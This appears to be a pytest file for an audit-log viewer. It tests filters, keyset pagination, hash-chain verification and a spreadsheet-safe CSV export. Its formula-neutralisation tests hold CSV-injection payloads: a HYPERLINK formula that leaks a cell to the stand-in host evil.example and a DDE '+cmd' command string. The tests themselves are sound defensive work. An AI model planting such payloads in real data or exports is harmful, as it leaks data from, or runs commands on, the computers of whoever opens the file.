"""The audit viewer's queries: filters, keyset pages, and a CSV export safe for spreadsheets."""

from __future__ import annotations

import codecs
import csv
import io
import json
import sqlite3
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import event, update

from storage.audit import GENESIS_HASH, canonical_json, event_hash, format_timestamp, record
from storage.audit_queries import (
    CSV_HEADER,
    MAX_PAGE_SIZE,
    AuditFilter,
    export_csv,
    list_events,
    neutralise_formula,
)
from storage.database import Database
from storage.migrate import migrate
from storage.models import AuditEvent

SHANGHAI = ZoneInfo("Asia/Shanghai")
BASE_TIME = datetime(2026, 3, 1, 8, 0, 0, 250000, tzinfo=UTC)
ACTORS = [("officer", "7"), ("officer", "8"), ("applicant", "7"), ("system", None)]
SUBJECTS = [("application", "1"), ("application", "2"), ("officer", "7"), ("backup", None)]
ACTIONS = ["application.viewed", "application.approved", "document.downloaded", "officer.signed_in"]


@dataclass(frozen=True)
class Seeded:
    """What the test put into one event, to predict what a filter must return."""

    seq: int
    occurred_at: datetime
    actor: tuple[str, str | None]
    subject: tuple[str, str | None]
    action: str


async def seed(database: Database, count: int = 24) -> list[Seeded]:
    """`count` events whose actors, subjects, actions and times vary independently."""
    seeded = []
    async with database.unit_of_work() as session:
        for index in range(count):
            actor = ACTORS[index % 4]
            subject = SUBJECTS[(index // 2) % 4]
            action = ACTIONS[(index // 3) % 4]
            moment = BASE_TIME + timedelta(hours=index)
            stored = await record(
                session,
                actor_type=actor[0],
                actor_id=actor[1],
                action=action,
                subject_type=subject[0],
                subject_id=subject[1],
                details={"step": index, "note": '审核, "quoted"\nsecond line'},
                now=moment,
            )
            seeded.append(Seeded(stored.seq, moment, actor, subject, action))
    return seeded


async def all_pages(
    database: Database, flt: AuditFilter, *, limit: int
) -> tuple[list[int], list[int]]:
    """(every seq in page order, the size of each page), following `next_before_seq`."""
    seqs: list[int] = []
    sizes: list[int] = []
    before: int | None = None
    while True:
        async with database.unit_of_work() as session:
            page = await list_events(session, flt, before_seq=before, limit=limit)
        seqs.extend(e.seq for e in page.events)
        sizes.append(len(page.events))
        if page.next_before_seq is None:
            return seqs, sizes
        assert page.next_before_seq == page.events[-1].seq
        before = page.next_before_seq


async def exported(database: Database, flt: AuditFilter, **options: Any) -> list[bytes]:
    return [chunk async for chunk in export_csv(database, flt, **options)]


def parse(chunks: list[bytes]) -> list[list[str]]:
    body = b"".join(chunks)
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


FILTERS: dict[str, tuple[AuditFilter, Callable[[Seeded], bool]]] = {
    "one officer": (
        AuditFilter(actor_type="officer", actor_id="7"),
        lambda e: e.actor == ("officer", "7"),
    ),
    "actor id on its own": (AuditFilter(actor_id="7"), lambda e: e.actor[1] == "7"),
    "one application": (
        AuditFilter(subject_type="application", subject_id="2"),
        lambda e: e.subject == ("application", "2"),
    ),
    "subject type": (AuditFilter(subject_type="officer"), lambda e: e.subject[0] == "officer"),
    "action": (
        AuditFilter(action="document.downloaded"),
        lambda e: e.action == "document.downloaded",
    ),
    "since (inclusive)": (
        AuditFilter(since=BASE_TIME + timedelta(hours=10)),
        lambda e: e.occurred_at >= BASE_TIME + timedelta(hours=10),
    ),
    "until (exclusive)": (
        AuditFilter(until=BASE_TIME + timedelta(hours=5)),
        lambda e: e.occurred_at < BASE_TIME + timedelta(hours=5),
    ),
    "a day in another time zone": (
        AuditFilter(
            since=datetime(2026, 3, 2, 4, 0, tzinfo=SHANGHAI),
            until=datetime(2026, 3, 2, 12, 0, tzinfo=SHANGHAI),
        ),
        lambda e: (
            datetime(2026, 3, 1, 20, tzinfo=UTC)
            <= e.occurred_at
            < datetime(2026, 3, 2, 4, tzinfo=UTC)
        ),
    ),
    "all together": (
        AuditFilter(
            actor_type="officer",
            actor_id="7",
            subject_type="application",
            action="application.viewed",
            until=BASE_TIME + timedelta(hours=12),
        ),
        lambda e: (
            e.actor == ("officer", "7")
            and e.subject[0] == "application"
            and e.action == "application.viewed"
            and e.occurred_at < BASE_TIME + timedelta(hours=12)
        ),
    ),
}


@pytest.mark.parametrize("name", list(FILTERS))
async def test_each_filter_narrows_to_exactly_the_matching_events(
    database: Database, name: str
) -> None:
    flt, matches = FILTERS[name]
    seeded = await seed(database)
    expected = sorted((e.seq for e in seeded if matches(e)), reverse=True)
    assert 0 < len(expected) < len(seeded)  # the filter really narrows something

    seqs, _ = await all_pages(database, flt, limit=3)
    assert seqs == expected

    rows = parse(await exported(database, flt, batch_size=2))
    assert [int(row[0]) for row in rows[1:]] == sorted(expected)


async def test_empty_strings_mean_any(database: Database) -> None:
    seeded = await seed(database, 6)
    seqs, _ = await all_pages(database, AuditFilter(actor_id="", action=""), limit=50)
    assert seqs == [e.seq for e in reversed(seeded)]


async def test_pages_return_every_event_exactly_once_newest_first(database: Database) -> None:
    seeded = await seed(database, 23)
    seqs, sizes = await all_pages(database, AuditFilter(), limit=5)
    assert seqs == [e.seq for e in reversed(seeded)]
    assert sizes == [5, 5, 5, 5, 3]


async def test_a_full_last_page_says_it_is_the_last(database: Database) -> None:
    await seed(database, 10)
    _, sizes = await all_pages(database, AuditFilter(), limit=5)
    assert sizes == [5, 5]  # no empty page after an exact multiple


async def test_events_appended_while_paging_neither_repeat_nor_shift_pages(
    database: Database,
) -> None:
    seeded = await seed(database, 9)
    async with database.unit_of_work() as session:
        first = await list_events(session, AuditFilter(), before_seq=None, limit=4)
    await seed(database, 5)  # newer events arrive while the officer reads page 1
    seen = [e.seq for e in first.events]
    before = first.next_before_seq
    while before is not None:
        async with database.unit_of_work() as session:
            page = await list_events(session, AuditFilter(), before_seq=before, limit=4)
        seen.extend(e.seq for e in page.events)
        before = page.next_before_seq
    assert seen == [e.seq for e in reversed(seeded)]


async def test_empty_trail_is_one_empty_last_page(database: Database) -> None:
    async with database.unit_of_work() as session:
        page = await list_events(session, AuditFilter(), before_seq=None)
    assert page.events == []
    assert page.next_before_seq is None


@pytest.mark.parametrize("limit", [0, -1, MAX_PAGE_SIZE + 1])
async def test_page_size_outside_the_allowed_range_is_refused(
    database: Database, limit: int
) -> None:
    async with database.unit_of_work() as session:
        with pytest.raises(ValueError, match="1 to"):
            await list_events(session, AuditFilter(), before_seq=None, limit=limit)


def test_naive_times_are_refused_in_a_filter() -> None:
    with pytest.raises(ValueError, match="since"):
        AuditFilter(since=datetime(2026, 3, 1))
    with pytest.raises(ValueError, match="until"):
        AuditFilter(until=datetime(2026, 3, 1))


def test_filter_as_details_holds_only_what_is_set() -> None:
    flt = AuditFilter(actor_type="officer", actor_id="7", since=BASE_TIME)
    assert flt.as_details() == {
        "actor_type": "officer",
        "actor_id": "7",
        "since": "2026-03-01T08:00:00.250000Z",
    }


async def test_csv_parses_back_to_the_stored_events(database: Database) -> None:
    await seed(database, 9)
    chunks = await exported(database, AuditFilter(), batch_size=4)
    assert len(chunks) == 1 + 3  # the header, then batches of 4, 4 and 1
    rows = parse(chunks)

    async with database.unit_of_work() as session:
        page = await list_events(session, AuditFilter(), before_seq=None, limit=MAX_PAGE_SIZE)
    expected = [
        [
            str(e.seq),
            format_timestamp(e.occurred_at),
            e.actor_type,
            e.actor_id or "",
            e.action,
            e.subject_type or "",
            e.subject_id or "",
            canonical_json(e.details).decode("utf-8"),
            e.hash,
        ]
        for e in reversed(page.events)
    ]
    assert rows[0] == list(CSV_HEADER)
    assert rows[1:] == expected
    assert rows[1][1] == "2026-03-01T08:00:00.250000Z"
    assert json.loads(rows[1][7]) == {"step": 0, "note": '审核, "quoted"\nsecond line'}


async def test_an_unfiltered_export_can_be_verified_offline(database: Database) -> None:
    await seed(database, 7)
    rows = parse(await exported(database, AuditFilter()))
    previous = GENESIS_HASH
    for seq, occurred_at, actor_type, actor_id, action, s_type, s_id, details, digest in rows[1:]:
        recomputed = event_hash(
            seq=int(seq),
            occurred_at=datetime.fromisoformat(occurred_at),
            actor_type=actor_type,
            actor_id=actor_id or None,
            action=action,
            subject_type=s_type or None,
            subject_id=s_id or None,
            details=json.loads(details),
            prev_hash=previous,
        )
        assert recomputed == digest
        previous = digest


async def test_export_leaves_out_events_appended_after_it_started(database: Database) -> None:
    seeded = await seed(database, 5)
    stream = export_csv(database, AuditFilter(), batch_size=2)
    chunks = [await anext(stream)]  # the header: the export has fixed its last event
    await seed(database, 3)
    chunks.extend([chunk async for chunk in stream])
    assert [int(row[0]) for row in parse(chunks)[1:]] == [e.seq for e in seeded]


async def test_empty_trail_exports_only_the_header(database: Database) -> None:
    assert parse(await exported(database, AuditFilter())) == [list(CSV_HEADER)]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


async def test_formulas_in_any_cell_are_neutralised(database: Database) -> None:
    async with database.unit_of_work() as session:
        await record(
            session,
            actor_type="applicant",
            actor_id="@SUM(1+1)",
            action="+cmd|' /C calc'!A0",
            subject_type="-2+3",
            subject_id=FORMULA[:64],
            details={"company_name": FORMULA},
        )
    [_, row] = parse(await exported(database, AuditFilter()))
    cells = dict(zip(CSV_HEADER, row, strict=True))
    assert cells["actor_id"] == "'@SUM(1+1)"
    assert cells["action"] == "'+cmd|' /C calc'!A0"
    assert cells["subject_type"] == "'-2+3"
    assert cells["subject_id"] == "'" + FORMULA[:64]
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # The details cell is one JSON object: it starts with "{", the value is kept intact.
    assert json.loads(cells["details"]) == {"company_name": FORMULA}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("a=1", "a=1"),
        ("{}", "{}"),
        ("", ""),
    ],
)
def test_neutralise_formula(cell: str, shown: str) -> None:
    assert neutralise_formula(cell) == shown


async def test_a_tampered_row_is_exported_as_stored(data_dir: Path) -> None:
    # Only SQLite lets a raw edit store invalid JSON; the export must not stop at it.
    database = Database(f"sqlite+aiosqlite:///{data_dir / 'tampered.db'}")
    try:
        await migrate(database)
        await seed(database, 3)
        async with database.unit_of_work() as session:
            await session.execute(
                update(AuditEvent).where(AuditEvent.seq == 2).values(action="edited")
            )
        with sqlite3.connect(data_dir / "tampered.db") as raw:
            raw.execute("UPDATE audit_events SET details = '{broken' WHERE seq = 3")
            raw.execute("UPDATE audit_events SET occurred_at = 'yesterday' WHERE seq = 1")
        rows = parse(await exported(database, AuditFilter()))
    finally:
        await database.dispose()
    assert [row[4] for row in rows[1:]] == ["application.viewed", "edited", "application.viewed"]
    assert rows[3][7] == "{broken"
    assert rows[1][1] == "yesterday"


@pytest.mark.parametrize(
    "flt",
    [
        AuditFilter(actor_type="officer", actor_id="7"),
        AuditFilter(subject_type="application", subject_id="2"),
        AuditFilter(action="application.viewed"),
        AuditFilter(since=BASE_TIME),
        AuditFilter(),
    ],
)
async def test_filtered_pages_walk_an_index_without_sorting(
    data_dir: Path, flt: AuditFilter
) -> None:
    # Keyset pages stay flat with depth only if no filter makes SQLite sort its matches.
    database = Database(f"sqlite+aiosqlite:///{data_dir / 'plan.db'}")
    statements: list[tuple[str, Any]] = []

    @event.listens_for(database.engine.sync_engine, "before_cursor_execute")
    def capture(_conn: Any, _cursor: Any, sql: str, params: Any, *_: Any) -> None:
        if sql.lstrip().upper().startswith("SELECT") and "audit_events" in sql:
            statements.append((sql, params))

    try:
        await migrate(database)
        await seed(database, 4)
        statements.clear()
        async with database.unit_of_work() as session:
            await list_events(session, flt, before_seq=1000, limit=50)
    finally:
        await database.dispose()
    [(sql, params)] = statements
    with sqlite3.connect(data_dir / "plan.db") as raw:
        plan = " | ".join(row[3] for row in raw.execute("EXPLAIN QUERY PLAN " + sql, params))
    assert "TEMP B-TREE" not in plan, plan
    assert "SEARCH" in plan, plan
